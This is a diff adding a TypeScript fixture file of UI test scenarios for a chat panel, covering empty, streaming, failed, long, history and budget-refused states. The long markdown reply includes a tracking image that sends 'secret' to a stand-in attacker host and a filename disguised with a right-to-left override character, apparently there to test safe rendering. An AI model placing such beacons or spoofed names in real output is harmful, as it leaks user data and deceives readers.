@@ -1,0 +1,107 @@
+import type { PanelView } from '../../src/protocol/views';
+import type { PanelPage } from './panelPage';
+import { emptyView, firstExchange, history, live, notice, panelView, question, reply, selection, streamingReply, streamingView } from './viewFixtures';
+
+export interface Picture {
+  readonly name: string;
+  readonly widths: readonly number[];
+  view(): PanelView;
+  act?(panel: PanelPage): Promise<void>;
+}
+
+const longReply = `## What happens
+
+The parser keeps **three** states, and the *last* one is never left:
+
+1. Read a line until CR, LF or CRLF.
+2. Append it to \`data\`:
+   \`\`\`ts
+   data += line.slice(5).trimStart() + "\\n";
+   \`\`\`
+3. On an empty line, emit.
+   - also on \`close\`
+   - never on \`error\`
+
+| stream ends with | event emitted | per the specification |
+| --- | :-: | --: |
+| blank line | yes | yes |
+| one line feed | no | no |
+| nothing, and a very long cell that cannot fit | no | no |
+
+> An incomplete event at the end of the stream is discarded.
+
+See https://html.spec.whatwg.org/multipage/server-sent-events.html#parsing-an-event-stream and [the tests](https://github.com/web-platform-tests/wpt).
+
+![tracker](https://evil.example/p.png?d=secret)
+
+\`\`\`python
+def flush(self) -> list[Event]:
+    """Everything that is left, and a line that is too long for a narrow panel to show at once."""
+    return [Event(self.data)] if self.data else []
+\`\`\`
+
+### Conclusion
+
+Aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa and a hidden \u202egnp.exe\u202c mark.`;
+
+const failedView = (): PanelView =>
+  panelView({
+    conversation: {
+      entries: [
+        ...firstExchange,
+        question('And for CRLF?'),
+        reply('The specification accepts CR, LF and', {
+          id: 'r-cut', state: 'interrupted', costText: 'cost pending', costSource: 'pending', completionTokens: null,
+          failure: notice({
+            code: 'NETWORK', severity: 'error', title: 'The connection was cut.', detail: 'The text so far is kept. Nothing is sent again by itself.',
+            actions: [{ action: 'showLog', label: 'Show log' }, { action: 'retry', label: 'Retry' }],
+          }),
+        }),
+        question('Again, please'),
+        reply('', {
+          id: 'r-failed', state: 'failed', costText: '$0.0000', latencyMs: 310, completionTokens: null,
+          failure: notice({
+            code: 'RATE_LIMITED', severity: 'warning', title: 'The model is rate-limited.', detail: 'Free models take 20 requests a minute. Send again in 12 s.',
+            actions: [{ action: 'retry', label: 'Retry' }, { action: 'selectModel', label: 'Choose another model' }],
+          }),
+        }),
+      ],
+    },
+    budget: { spentText: '$4.4120', limitText: '$5.00', reservedText: '', pendingText: '$0.0121', fraction: 0.8824, warnFraction: 0.8, level: 'warning' },
+    banner: notice({ code: 'STORE_READ_ONLY', title: 'History cannot be written.', detail: 'The disk is full. Work goes on in memory.', actions: [{ action: 'showLog', label: 'Show log' }] }),
+  });
+
+export const pictures: readonly Picture[] = [
+  { name: 'empty', widths: [300, 420, 1200], view: () => emptyView() },
+  { name: 'emptyKey', widths: [300, 420], view: () => emptyView({ connection: { origin: 'http://127.0.0.1:4010', isOpenRouter: false, needsKey: true } }) },
+  { name: 'reply', widths: [300, 420, 1200], view: () => panelView({ conversation: { entries: [...firstExchange] }, attachments: [selection] }) },
+  { name: 'streaming', widths: [300, 340, 420, 1200], view: () => streamingView() },
+  {
+    name: 'thinking',
+    widths: [340],
+    view: () => panelView({ live: live({ phase: 'thinking', tokensPerSecond: 0, velocity: [], elapsedMs: 34_000 }), conversation: { entries: [question('Prove it.'), streamingReply('', { reasoning: 'Let me think about it. '.repeat(40) })] } }),
+  },
+  { name: 'failure', widths: [300, 420, 1200], view: failedView },
+  { name: 'long', widths: [300, 420, 1200], view: () => panelView({ conversation: { entries: [question('Tell me everything.'), reply(longReply, { reasoning: 'First I read the specification.', truncatedMessages: 12 })] } }) },
+  {
+    name: 'history',
+    widths: [300, 420, 1200],
+    view: () => streamingView(),
+    async act(panel) {
+      await panel.answer('listConversations', { kind: 'conversations', conversations: history() });
+      await panel.page.getByRole('button', { name: 'History' }).click();
+      await panel.page.keyboard.press('ArrowDown');
+      await panel.page.keyboard.press('ArrowDown');
+    },
+  },
+  {
+    name: 'refused',
+    widths: [340],
+    view: () => panelView({ conversation: { entries: [...firstExchange] } }),
+    async act(panel) {
+      await panel.answer('send', { kind: 'refused', notice: notice({ code: 'BUDGET_EXCEEDED', severity: 'error', title: 'The budget does not cover this reply.', detail: '$0.0120 are left of $5.00; this reply could cost $0.0460.', actions: [{ action: 'openBudgetMenu', label: 'Change budget' }, { action: 'selectModel', label: 'Cheaper model' }] }) });
+      await panel.page.getByRole('textbox', { name: 'Message' }).fill('And what would a TransformStream look like?\nTwo lines are kept.');
+      await panel.page.keyboard.press('Enter');
+    },
+  },
+];
